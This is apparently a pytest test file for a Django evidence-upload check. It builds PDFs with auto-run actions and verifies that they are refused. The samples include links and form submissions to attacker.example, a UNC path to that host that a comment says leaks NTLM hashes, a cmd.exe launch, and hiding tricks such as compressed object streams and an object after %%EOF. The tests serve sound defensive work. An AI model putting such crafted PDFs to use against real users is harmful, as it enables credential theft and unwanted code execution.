"""Evidence PDFs that could act on their own are refused, wherever the action hides; plain ones pass.

The corpus is made here with pikepdf: each action type as the document's /OpenAction and as a link's
action, automatic actions (/AA) on the catalog, a page, an annotation and a form field, an XFA form and
a /GoTo whose /Next chain opens a web address. Each is written twice: with plain objects, and with every
object packed into compressed object streams, where no byte search of the file can see it.
"""

import io
import re

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from pikepdf import Array, Dictionary, Name, String

from reports import evidence
from reports.evidence import FORBIDDEN_PDF_ACTIONS, check_file
from tests.reports.builders import upload
from tests.reports.test_evidence import assert_refused_and_kept, post_with, reporter  # noqa: F401

ACTION_TYPES = sorted(name.lstrip("/") for name in FORBIDDEN_PDF_ACTIONS)
LAYOUTS = ["plain", "object-streams"]
# A Windows viewer following this sends the user's NTLM hash to the attacker's host.
UNC_PATH = "\\\\attacker.example\\share\\evidence.pdf"


def action(kind: str) -> Dictionary:
    """An action of the given type, with the keys a viewer would need to carry it out."""
    extra = {
        "URI": {"/URI": String("https://attacker.example/collect")},
        "Launch": {"/F": String("cmd.exe")},
        "SubmitForm": {"/F": Dictionary(FS=Name.URL, F=String("https://attacker.example/form"))},
        "ImportData": {"/F": String(UNC_PATH)},
        "GoToR": {"/F": String(UNC_PATH), "/D": Array([0, Name.Fit])},
        "GoToE": {"/D": Array([0, Name.Fit]), "/T": Dictionary(R=Name.C, N=String("inner.pdf"))},
        "JavaScript": {"/JS": String("app.alert('hello')")},
        "Named": {"/N": Name.Print},
        "Hide": {"/T": String("field")},
    }.get(kind, {})
    return Dictionary({"/Type": Name.Action, "/S": Name("/" + kind), **extra})


def save(pdf: pikepdf.Pdf, layout: str) -> bytes:
    out = io.BytesIO()
    mode = (
        pikepdf.ObjectStreamMode.generate if layout == "object-streams" else pikepdf.ObjectStreamMode.disable
    )
    pdf.save(out, object_stream_mode=mode, compress_streams=True)
    return out.getvalue()


def new_pdf() -> pikepdf.Pdf:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    contents = pdf.make_stream(b"BT /F1 12 Tf 20 100 Td (Screenshot of the post) Tj ET")
    pdf.pages[0].obj.Contents = contents
    pdf.pages[0].obj.Resources = Dictionary(
        Font=Dictionary(F1=Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    )
    return pdf


def add_link(pdf: pikepdf.Pdf, link_action: Dictionary) -> Dictionary:
    link = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([10, 10, 60, 30]), A=link_action)
    )
    pdf.pages[0].obj.Annots = Array([link])
    return link


def go_to_first_page(pdf: pikepdf.Pdf) -> Dictionary:
    return Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]))


@pytest.fixture(autouse=True)
def walk_only(request, monkeypatch):
    """The walk over the objects must find every case by itself: the byte search is a second line only."""
    if "byte_search" not in request.keywords:
        monkeypatch.setattr(evidence, "RAW_PDF_PATTERN", re.compile(rb"(?!)"))


def refusal(data: bytes, name: str = "evidence.pdf") -> str | None:
    try:
        check_file(upload(name, data))
    except ValidationError as error:
        return " ".join(error.messages)
    return None


def assert_hidden_from_a_byte_search(data: bytes, layout: str, *names: bytes) -> None:
    """In object streams the names exist only compressed: the check must have resolved the objects."""
    if layout == "object-streams":
        for name in names:
            assert name not in data, name


@pytest.mark.parametrize("layout", LAYOUTS)
@pytest.mark.parametrize("kind", ACTION_TYPES)
def test_it_refuses_each_action_type_run_when_the_file_opens(kind, layout):
    pdf = new_pdf()
    pdf.Root.OpenAction = pdf.make_indirect(action(kind))
    data = save(pdf, layout)
    assert_hidden_from_a_byte_search(data, layout, b"/OpenAction", f"/{kind}".encode())
    message = refusal(data, "opens-itself.pdf")
    assert message is not None, f"/{kind} as /OpenAction ({layout}) was accepted"
    assert message.startswith("“opens-itself.pdf” is a PDF that contains")
    assert f"/{kind}" in message or "JavaScript" in message


@pytest.mark.parametrize("layout", LAYOUTS)
@pytest.mark.parametrize("kind", ACTION_TYPES)
def test_it_refuses_each_action_type_behind_a_link(kind, layout):
    pdf = new_pdf()
    add_link(pdf, pdf.make_indirect(action(kind)))
    data = save(pdf, layout)
    assert_hidden_from_a_byte_search(data, layout, f"/{kind}".encode())
    message = refusal(data, "linked.pdf")
    assert message is not None, f"a link with /{kind} ({layout}) was accepted"
    assert f"/{kind}" in message or "JavaScript" in message


def aa_on_catalog(pdf):
    pdf.Root.AA = Dictionary(WC=go_to_first_page(pdf))


def aa_on_page(pdf):
    pdf.pages[0].obj.AA = Dictionary(O=go_to_first_page(pdf))


def aa_on_annotation(pdf):
    link = add_link(pdf, go_to_first_page(pdf))
    link.AA = Dictionary(E=go_to_first_page(pdf))


def aa_on_form_field(pdf):
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("name"),
            Rect=Array([10, 50, 100, 70]),
            AA=Dictionary(K=go_to_first_page(pdf)),
            P=pdf.pages[0].obj,
        )
    )
    pdf.pages[0].obj.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))


def xfa_form(pdf):
    xfa = pdf.make_stream(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa)


def open_action_with_next_uri(pdf):
    first = go_to_first_page(pdf)
    first.Next = pdf.make_indirect(action("URI"))
    pdf.Root.OpenAction = pdf.make_indirect(first)


@pytest.mark.parametrize("layout", LAYOUTS)
@pytest.mark.parametrize(
    ("build", "expected"),
    [
        (aa_on_catalog, "automatic actions (/AA)"),
        (aa_on_page, "automatic actions (/AA)"),
        (aa_on_annotation, "automatic actions (/AA)"),
        (aa_on_form_field, "automatic actions (/AA)"),
        (xfa_form, "an XFA form (/XFA)"),
        (open_action_with_next_uri, "(/URI)"),
    ],
)
def test_it_refuses_automatic_actions_and_xfa_wherever_they_are(build, expected, layout):
    pdf = new_pdf()
    build(pdf)
    data = save(pdf, layout)
    message = refusal(data, "automatic.pdf")
    assert message is not None, f"{build.__name__} ({layout}) was accepted"
    assert "“automatic.pdf”" in message and expected in message


@pytest.mark.parametrize("layout", LAYOUTS)
def test_it_accepts_an_ordinary_pdf(layout):
    assert refusal(save(new_pdf(), layout)) is None


@pytest.mark.parametrize("layout", LAYOUTS)
def test_it_accepts_a_link_that_jumps_within_the_document(layout):
    pdf = new_pdf()
    pdf.add_blank_page(page_size=(200, 200))
    add_link(pdf, Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit])))
    assert refusal(save(pdf, layout)) is None


@pytest.mark.parametrize("layout", LAYOUTS)
def test_it_accepts_opening_at_a_page(layout):
    as_destination, as_action = new_pdf(), new_pdf()
    as_destination.Root.OpenAction = Array([as_destination.pages[0].obj, Name.Fit])
    as_action.Root.OpenAction = go_to_first_page(as_action)
    assert refusal(save(as_destination, layout)) is None
    assert refusal(save(as_action, layout)) is None


@pytest.mark.byte_search
def test_it_refuses_script_in_an_object_the_cross_reference_table_does_not_list():
    data = save(new_pdf(), "plain")
    orphan = b"\n99 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"
    message = refusal(data + orphan)  # after %%EOF: viewers that scan for objects still find it
    assert message is not None and "JavaScript" in message


@pytest.mark.byte_search
@pytest.mark.django_db
def test_it_refuses_an_action_through_the_report_form_naming_the_file_and_why(client, reporter, colleague):  # noqa: F811
    pdf = new_pdf()
    pdf.Root.OpenAction = pdf.make_indirect(action("GoToR"))
    response = post_with(client, colleague, [upload("payslip.pdf", save(pdf, "object-streams"))])
    assert_refused_and_kept(
        response, "“payslip.pdf” is a PDF that contains", "an action that opens another file (/GoToR)"
    )
